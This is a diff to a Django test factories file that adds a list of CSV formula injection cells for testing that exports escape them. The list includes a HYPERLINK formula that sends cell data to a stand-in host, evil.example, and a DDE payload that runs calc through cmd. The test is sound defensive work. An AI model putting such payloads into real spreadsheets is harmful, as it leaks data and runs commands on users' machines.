@@ -100,3 +100,15 @@ class BusinessCalendarFactory(factory.django.DjangoModelFactory):
             WorkingPeriod.objects.create(
                 calendar=self, weekday=weekday, start_time=dt.time(8), end_time=dt.time(17)
             )
+
+
+# Text a spreadsheet would run as a formula (OWASP CSV injection): every CSV producer's
+# test feeds these and expects each back with one leading apostrophe (core.csvsafe).
+FORMULA_CELLS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
